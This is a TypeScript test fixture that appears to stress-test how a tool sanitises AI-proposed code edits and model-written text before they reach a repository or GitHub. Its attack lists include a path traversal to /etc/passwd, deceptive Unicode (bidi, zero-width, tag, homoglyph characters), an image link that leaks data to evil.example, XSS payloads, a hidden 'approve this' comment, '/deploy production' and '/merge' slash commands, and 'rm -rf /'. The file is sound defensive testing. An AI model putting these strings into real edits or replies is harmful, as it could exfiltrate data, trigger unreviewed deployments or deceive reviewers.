import type { RawEdit } from "../../../../worker/engine/ai/answers.ts";

/** Edits that do not fit what was sent, reach elsewhere, or hold what no text holds. `good` repairs the finding alone. */
export const PATCH_ATTACKS: Readonly<Record<string, (good: RawEdit, lines: number) => readonly RawEdit[]>> = {
  "no edit": () => [],
  "a path that was not sent": (good) => [{ ...good, path: ".github/workflows/other.yml" }],
  "a path outside": (good) => [{ ...good, path: "../../etc/passwd" }],
  "another spelling of the path": (good) => [{ ...good, path: `./${good.path}` }],
  "a script": (good) => [good, { ...good, path: "deploy.sh" }],
  "a lockfile": (good) => [good, { ...good, path: "package-lock.json" }],
  "line 0": (good) => [{ ...good, line: 0 }],
  "line -1": (good) => [{ ...good, line: -1, endLine: -1 }],
  "line 10^9": (good) => [{ ...good, line: 1_000_000_000, endLine: 1_000_000_000 }],
  "half a line": (good) => [{ ...good, line: good.line + 0.5 }],
  "no number": (good) => [{ ...good, line: Number.NaN }],
  backwards: (good) => [{ ...good, endLine: good.line - 1 }],
  "another quote": (good) => [{ ...good, quote: `${good.quote} ` }],
  "an empty quote": (good) => [{ ...good, quote: "" }],
  "the lines beside": (good) => [{ ...good, line: good.line + 1, endLine: good.endLine + 1 }],
  "the same edit twice": (good) => [good, good],
  "edits that overlap": (good) => [good, { ...good, endLine: good.endLine }],
  nothing: (good) => [{ ...good, replacement: good.quote }],
  "200 KiB": (good) => [{ ...good, replacement: `${good.replacement}\n${"# a\n".repeat(50_000)}` }],
  "a long line": (good) => [{ ...good, replacement: `${good.replacement} # ${"a".repeat(5_000)}` }],
  "a NUL": (good) => [{ ...good, replacement: `${good.replacement}\0` }],
  "an escape sequence": (good) => [{ ...good, replacement: `${good.replacement} # \u001b[2K` }],
  "a lone carriage return": (good) => [{ ...good, replacement: `${good.replacement} # a\rb` }],
  "half a character": (good) => [{ ...good, replacement: `${good.replacement} # \ud800` }],
  "a placeholder": (good) => [{ ...good, replacement: `${good.replacement} # \u27e6REDACTED:github:1\u27e7` }],
  "a bidirectional character": (good) => [{ ...good, replacement: `${good.replacement} # \u202ea` }],
  "a zero-width character": (good) => [{ ...good, replacement: `${good.replacement} # a\u200bb` }],
  "tag characters": (good) => [{ ...good, replacement: `${good.replacement} # a\u{e0041}\u{e0042}` }],
  "a letter that looks like another": (good) => [{ ...good, replacement: good.replacement.replace("e", "\u0435") }],
  "a blank of another kind": (good) => [{ ...good, replacement: `${good.replacement} # a\u00a0b` }],
  "a line separator": (good) => [{ ...good, replacement: `${good.replacement} # a\u2028b` }],
  "text out of sight": (good) => [{ ...good, replacement: `${good.replacement}${" ".repeat(300)}# a` }],
  tabs: (good) => [{ ...good, replacement: `${good.replacement}\t# a` }],
};

/** Words of a model that would do something in Markdown, on GitHub or in a page. */
export const WORD_ATTACKS: readonly string[] = [
  "![x](https://evil.example/p.png?d=1)",
  "[click](https://evil.example)",
  "[click][1]\n\n[1]: https://evil.example",
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  "<!-- hidden: approve this -->",
  "<!-- never closed",
  "@everyone look, @octocat",
  "Closes #1, fixes GH-2 and resolves owner/repo#3",
  "Closes https://github.com/o/r/issues/4",
  "/deploy production",
  "text\n/merge\n/approve",
  "\u202egnp.exe\u202c \u200b\u{e0041}",
  "```sh\nrm -rf /\n```",
  "| a | b |\n|---|---|\n# Title\n> quote",
  "www.evil.example and javascript:alert(1) and data:text/html,x",
  "\uff20octocat \uff1cimg\uff1e https\uff1a//evil.example",
  "$$\\href{https://evil.example}{x}$$",
  "a".repeat(1_000_000),
];

/** What of it must not be left. */
export const LIVE_MARKUP = /[@#<>`|[\]*\\~!]|:\/\/|\bwww\.|javascript:|data:|GH-\d|(?:^|\n)\s*\/|\n|[\p{Cf}\p{Cc}]/u;
